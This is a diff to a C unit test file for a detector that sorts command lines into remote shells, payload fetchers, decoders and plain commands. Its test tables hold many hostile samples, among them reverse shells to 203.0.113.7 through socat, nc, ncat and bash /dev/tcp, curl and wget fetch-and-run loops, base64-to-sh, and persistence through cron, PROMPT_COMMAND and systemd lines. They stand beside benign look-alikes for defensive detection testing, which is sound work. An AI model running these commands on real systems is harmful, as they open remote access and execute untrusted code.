@@ -6,7 +6,7 @@
 #include <string.h>
 
 #include "core/cleanup.h"
-#include "job/proccode.h"
+#include "core/proccode.h"
 
 static const struct {
 	const char *exe, *text;
@@ -44,7 +44,30 @@ static const struct {
 	{"/usr/bin/socat", "socat TCP:203.0.113.7:443 EXEC:'bash -li',pty,stderr",
 	 PROCCODE_HANDS_OUT},
 	{"/usr/bin/socat", "socat tcp-l:5 system:/bin/sh", PROCCODE_HANDS_OUT},
+	{"/bin/bash", "bash -c while sleep 3; do curl -s x -o /tmp/x && sh /tmp/x; done",
+	 PROCCODE_FETCHES},
+	{"/bin/dash", "sh -c wget -qO /tmp/y x; chmod +x /tmp/y; /tmp/y -d", PROCCODE_FETCHES},
+	{"/bin/bash", "bash -c curl x > .z\n. .z", PROCCODE_FETCHES},
+	{"/usr/bin/perl", "perl -e $c=`curl -s x`; system($c)", PROCCODE_FETCHES},
+	{"/usr/bin/python3", "python3 -c os.popen(urlopen('http://x').read())", PROCCODE_FETCHES},
+	{"/usr/bin/gawk", "gawk BEGIN{s=\"/inet/tcp/0/x/4\"; s |& getline c; c |& getline}",
+	 PROCCODE_REMOTE},
+	{"/usr/bin/python3",
+	 "python3 -c s=socket.create_connection(a);s.send(getoutput(s.recv(9)))", PROCCODE_REMOTE},
+	{"/usr/bin/perl", "perl -MIO::Socket -e while($s->recv($c,9)){print `$c`}",
+	 PROCCODE_REMOTE},
+	{"/bin/bash", "bash -c eval \"$(echo 9 peels | rev)\"", PROCCODE_DECODES},
+	{"/usr/bin/python3", "python3 -c exec(bytes([105, 109]))", PROCCODE_DECODES},
 	/* what entry points, health checks and servers write */
+	{"/bin/dash", "sh -c curl -o /tmp/a.tgz x && tar xzf /tmp/a.tgz && sh install",
+	 PROCCODE_PLAIN},
+	{"/bin/dash", "sh -c curl -fo /dev/null http://x || sh /dev/null", PROCCODE_PLAIN},
+	{"/bin/dash", "sh -c wget -O /srv/model x; python3 serve.py /srv/model", PROCCODE_PLAIN},
+	{"/bin/dash", "sh -c curl -s -o - http://x; exec -- app", PROCCODE_PLAIN},
+	{"/usr/bin/node", "node -e require('http').get('http://x', r => process.exit(r.a))",
+	 PROCCODE_PLAIN},
+	{"/usr/bin/python3", "python3 -c s=socket.create_connection(a);print(s.recv(9))",
+	 PROCCODE_PLAIN},
 	{"/bin/dash", "/bin/sh -c curl -f http://localhost/ || exit 1", PROCCODE_PLAIN},
 	{"/bin/dash", "sh -c wget -q -O - http://localhost | grep -q ok", PROCCODE_PLAIN},
 	{"/bin/bash", "bash -c curl -s http://x/api | python3 -m json.tool", PROCCODE_PLAIN},
@@ -104,9 +127,36 @@ static void a_long_run_of_encoded_bytes_is_told(void **state)
 	assert_int_equal(proccode_judge("/usr/bin/python3", text), PROCCODE_PLAIN);
 }
 
+static const struct {
+	const char *line;
+	enum proccode code;
+} lines[] = {
+	{"* * * * * root nc -e /bin/sh 203.0.113.7 4444", PROCCODE_REMOTE},
+	{"PROMPT_COMMAND='ncat 203.0.113.7 4444 -e bash'", PROCCODE_REMOTE},
+	{"ExecStart=/usr/bin/socat TCP:203.0.113.7:4 EXEC:sh,pty", PROCCODE_REMOTE},
+	{"python3 -c 'import socket,pty;s=socket.socket();pty.spawn(\"sh\")'", PROCCODE_REMOTE},
+	{"bash -i >& /dev/tcp/203.0.113.7/443 0>&1", PROCCODE_REMOTE},
+	{"ls() { curl -s x -o /tmp/.z; . /tmp/.z; }", PROCCODE_FETCHES},
+	{"echo c2g= | base64 -d | sh", PROCCODE_DECODES},
+	{"ExecStart=/bin/sh -c 'exec app --socket /run/app.socket'", PROCCODE_PLAIN},
+	{"nc -z db 5432 || exit 1", PROCCODE_PLAIN},
+	{"python3 -m http.server", PROCCODE_PLAIN},
+	{"alias curl='curl -s'", PROCCODE_PLAIN},
+	{"", PROCCODE_PLAIN},
+};
+
+static void lines_of_files_are_judged_alike(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < ARRAY_SIZE(lines); i++)
+		if (proccode_line(lines[i].line) != lines[i].code)
+			fail_msg("%s: not %d", lines[i].line, lines[i].code);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(lines_of_files_are_judged_alike),
 		cmocka_unit_test(code_is_told_by_words_that_fit_together),
 		cmocka_unit_test(a_long_run_of_encoded_bytes_is_told),
 	};
